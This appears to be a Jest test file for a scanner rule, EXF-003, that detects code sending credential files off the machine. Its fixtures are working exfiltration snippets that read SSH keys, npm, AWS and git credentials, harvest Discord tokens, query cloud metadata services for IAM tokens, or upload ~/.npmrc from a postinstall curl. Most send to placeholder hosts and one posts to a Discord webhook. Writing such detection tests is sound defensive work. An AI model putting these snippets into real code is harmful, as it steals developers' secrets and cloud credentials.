import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXF-003 a credential file leaves the machine', () => {
  it.each([
    [
      'read at once',
      `const fs = require('fs'), os = require('os'), path = require('path');
       fetch('https://x.example.invalid', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });`,
    ],
    [
      'read by callback',
      `const fs = require('fs'); fs.readFile(process.env.HOME + '/.ssh/id_rsa', 'utf8', (err, data) => {
         const r = require('https').request('https://x.example.invalid'); r.end(Buffer.from(data).toString('base64')); });`,
    ],
    [
      'read from a list',
      `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os';
       for (const f of ['.aws/credentials', '.kube/config']) { const text = await readFile(\`\${homedir()}/\${f}\`); await fetch('https://x.example.invalid', { body: text }); }`,
    ],
    [
      'as a stream',
      `const fs = require('fs'); fs.createReadStream('/root/.netrc').pipe(require('https').request({ host: 'x.example.invalid' }));`,
    ],
    [
      'by promise',
      `require('fs').promises.readFile(home + '/.git-credentials').then((t) => fetch('https://x.example.invalid', { body: t }));`,
    ],
    [
      'a token that a pattern finds, in a header',
      `const fs = require('fs'), os = require('os'); fs.readFile(os.homedir() + '/.npmrc', 'utf8', (e, t) => { const m = /_authToken=(.+)/.exec(t); if (m) require('https').get({ host: 'a.example.invalid', path: '/p.gif', headers: { referer: 'http://b/' + m[1] } }); });`,
    ],
    [
      'all that a pattern finds',
      `const fs = require('fs'); const hits = []; for (const m of fs.readFileSync(process.env.HOME + '/.git-credentials', 'utf8').matchAll(/:\\/\\/([^@]+)@/g)) hits.push(m[1]); fetch('https://a.example.invalid/', { method: 'POST', body: hits.join() });`,
    ],
    [
      'tokens out of the storage of a messenger',
      `const fs = require('fs'); const dir = process.env.APPDATA + '\\\\discordcanary\\\\Local Storage\\\\leveldb\\\\'; let all = []; for (const f of fs.readdirSync(dir)) all = all.concat(fs.readFileSync(dir + f, 'latin1').match(/mfa\\.[\\w-]{84}/g) || []); require('axios').post('https://discord.com/api/webhooks/0/a', { content: all.join() });`,
    ],
    [
      'what a cloud tells a machine',
      `(async () => { const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'; const role = await (await fetch(base)).text(); const keys = await (await fetch(base + role)).json(); await fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(keys) }); })();`,
    ],
    [
      'the token of a cloud service account',
      `const http = require('http'), https = require('https'); http.get({ host: 'metadata.google.internal', path: '/computeMetadata/v1/instance/service-accounts/default/token', headers: { 'Metadata-Flavor': 'Google' } }, (r) => { let b = ''; r.on('data', (c) => { b += c; }); r.on('end', () => https.request('https://a.example.invalid/', { method: 'POST' }).end(b)); });`,
    ],
  ])('finds it %s', (_name, source) => {
    expect(hitsOf('EXF-003', js(source))).toEqual(['critical index.js']);
  });

  it('finds it in an install script', () => {
    const scripts = { postinstall: 'curl -F f=@$HOME/.npmrc https://x.example.invalid' };
    expect(hitsOf('EXF-003', manifest({ scripts }))).toEqual(['critical package.json']);
  });

  it.each([
    [
      'a file that is read and used',
      `const t = require('fs').readFileSync('.npmrc', 'utf8'); console.log(t.length); fetch('https://x.example.invalid');`,
    ],
    [
      'another file that is sent',
      `const t = require('fs').readFileSync('data.json'); fetch('https://x.example.invalid', { body: t });`,
    ],
    ['a name that is sent', `fetch('https://x.example.invalid', { body: '.npmrc' });`],
    [
      'a token of npm, for npm',
      `const fs = require('fs'), os = require('os'); const t = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')); fetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + t[1] } });`,
    ],
    [
      'credentials of a cloud, for its store',
      `const fs = require('fs'), os = require('os'); exports.put = (bucket, body) => { const id = /key_id=(.+)/.exec(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'))[1]; require('https').request({ host: \`\${bucket}.s3.amazonaws.com\`, method: 'PUT', headers: { authorization: 'AWS ' + id } }).end(body); };`,
    ],
    [
      'what a cloud tells of a machine itself',
      `(async () => { const zone = await (await fetch('http://169.254.169.254/latest/meta-data/placement/availability-zone')).text(); await fetch('https://a.example.invalid/', { method: 'POST', body: zone }); })();`,
    ],
    [
      'the token of a cloud, for the cloud',
      `(async () => { const { access_token } = await (await fetch('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')).json(); await fetch('https://storage.googleapis.com/b/x', { headers: { authorization: access_token } }); })();`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXF-003', js(source))).toEqual([]);
  });

  const sent = (send: string): string =>
    `const fs = require('fs'), os = require('os'); exports.go = (x) => { const body = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); ${send} };`;
  it.each([
    ['a bucket of anybody', "fetch('https://drop.s3.eu-west-1.amazonaws.com/x', { method: 'PUT', body });"],
    [
      'a bucket of a name that is not known',
      'fetch(`https://${x}.s3.amazonaws.com/x`, { method: "PUT", body });',
    ],
    [
      'a machine of anybody',
      "fetch('https://ec2-1-2-3-4.compute-1.amazonaws.com/', { method: 'POST', body });",
    ],
    [
      'a gateway of anybody',
      "fetch('https://abc.execute-api.us-east-1.amazonaws.com/p', { method: 'POST', body });",
    ],
    [
      'the issuer and a host that is not known',
      "fetch(x ? `https://${x}/` : 'https://sts.amazonaws.com/', { method: 'POST', body });",
    ],
  ])('finds what is sent to %s below the name of the issuer', (_name, send) => {
    expect(hitsOf('EXF-003', js(sent(send)))).toEqual(['critical index.js']);
  });

  it('lets the token service of the issuer have it', () => {
    expect(
      hitsOf('EXF-003', js(sent("fetch('https://sts.amazonaws.com/', { method: 'POST', body });"))),
    ).toEqual([]);
  });
});
